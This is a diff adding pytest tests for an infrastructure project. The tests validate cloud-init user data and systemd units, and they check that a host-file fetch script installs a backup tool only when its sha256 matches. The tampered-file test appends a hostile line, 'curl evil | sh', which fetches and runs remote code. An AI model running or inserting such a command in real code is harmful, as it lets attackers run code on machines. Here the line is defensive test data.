@@ -1,0 +1,103 @@
+"""The user data the real stacks send to their host, checked with the real programs.
+
+tests/host/ proves the renderer on its own; this proves what `__main__.py` actually
+composes for dev and prod: the document passes `cloud-init schema`, and the script that
+fetches files too large for user data installs a file only when its sha256 matches.
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import hashlib
+import os
+import stat
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from leanstack.mocks import REPO, StackRun
+from tests.components.helpers import written_file
+from tests.system import require_program
+
+
+def cloud_config(run: StackRun) -> str:
+    raw = base64.b64decode(run.one("aws:ec2/instance:Instance").inputs["userDataBase64"])
+    return gzip.decompress(raw).decode()
+
+
+@pytest.mark.parametrize("stack", ["dev", "prod"])
+def test_stack_user_data_passes_cloud_init_schema(stack: str, dev: StackRun, prod: StackRun, tmp_path: Path) -> None:
+    cloud_init = require_program("cloud-init", "cloud-init")
+    document = tmp_path / "user-data.yaml"
+    document.write_text(cloud_config({"dev": dev, "prod": prod}[stack]))
+    checked = subprocess.run(
+        [cloud_init, "schema", "--config-file", str(document)], capture_output=True, text=True, timeout=120
+    )
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+    assert "Valid cloud-config" in checked.stdout
+
+
+def _fake_aws(tmp_path: Path, served: Path) -> Path:
+    """A stand-in `aws` CLI: `aws s3 cp s3://bucket/key dest` copies served/<key> to dest."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    fake = bin_dir / "aws"
+    fake.write_text(
+        "#!/bin/sh\n"
+        '[ "$1 $2" = "s3 cp" ] || exit 2\n'
+        "for last; do :; done\n"
+        'for a; do case "$a" in s3://*) src="$a";; esac; done\n'
+        'key="${src#s3://*/}"\n'
+        f'cp "{served}/$key" "$last"\n'
+    )
+    fake.chmod(0o755)
+    return bin_dir
+
+
+def _run_fetch(dev: StackRun, tmp_path: Path, tool_text: str) -> tuple[subprocess.CompletedProcess[str], Path]:
+    served = tmp_path / "served" / "bin"
+    served.mkdir(parents=True)
+    (served / "leanstack-backup").write_text(tool_text)
+    target = tmp_path / "root"
+    script = written_file(dev, "/usr/local/sbin/leanstack-fetch-host-files")
+    # Run the real script, pointed at a scratch root instead of /usr/local/bin.
+    script = script.replace(" /usr/local/bin/", f" {target}/usr/local/bin/")
+    (target / "usr/local/bin").mkdir(parents=True)
+    path = tmp_path / "fetch.sh"
+    path.write_text(script)
+    env = dict(os.environ, PATH=f"{_fake_aws(tmp_path, tmp_path / 'served')}:{os.environ['PATH']}")
+    done = subprocess.run(["sh", str(path)], capture_output=True, text=True, env=env, timeout=60)
+    return done, target / "usr/local/bin/leanstack-backup"
+
+
+def test_fetch_script_installs_the_tool_when_its_sha256_matches(dev: StackRun, tmp_path: Path) -> None:
+    if os.geteuid() != 0:
+        pytest.skip("the fetch script installs files owned by root; run as root")
+    tool = (REPO / "host" / "backup" / "leanstack_backup.py").read_text()
+    done, installed = _run_fetch(dev, tmp_path, tool)
+    assert done.returncode == 0, done.stderr
+    assert hashlib.sha256(installed.read_bytes()).hexdigest() == hashlib.sha256(tool.encode()).hexdigest()
+    assert stat.S_IMODE(installed.stat().st_mode) == 0o755
+
+
+def test_fetch_script_refuses_a_tampered_file(dev: StackRun, tmp_path: Path) -> None:
+    tool = (REPO / "host" / "backup" / "leanstack_backup.py").read_text()
+    done, installed = _run_fetch(dev, tmp_path, tool + "\nimport os; os.system('curl evil | sh')\n")
+    assert done.returncode != 0
+    assert "does not match its sha256; not installed" in done.stderr
+    assert not installed.exists()
+
+
+def test_fetch_unit_parses_with_systemd(dev: StackRun, tmp_path: Path) -> None:
+    analyze = require_program("systemd-analyze", "systemd")
+    unit = tmp_path / "leanstack-host-files.service"
+    unit.write_text(written_file(dev, "/etc/systemd/system/leanstack-host-files.service"))
+    script = tmp_path / "fetch"
+    script.write_text("#!/bin/sh\n")
+    script.chmod(0o755)
+    unit.write_text(unit.read_text().replace("/usr/local/sbin/leanstack-fetch-host-files", str(script)))
+    done = subprocess.run([analyze, "verify", str(unit)], capture_output=True, text=True, timeout=60)
+    problems = [line for line in done.stderr.splitlines() if unit.name in line]
+    assert problems == [], done.stderr
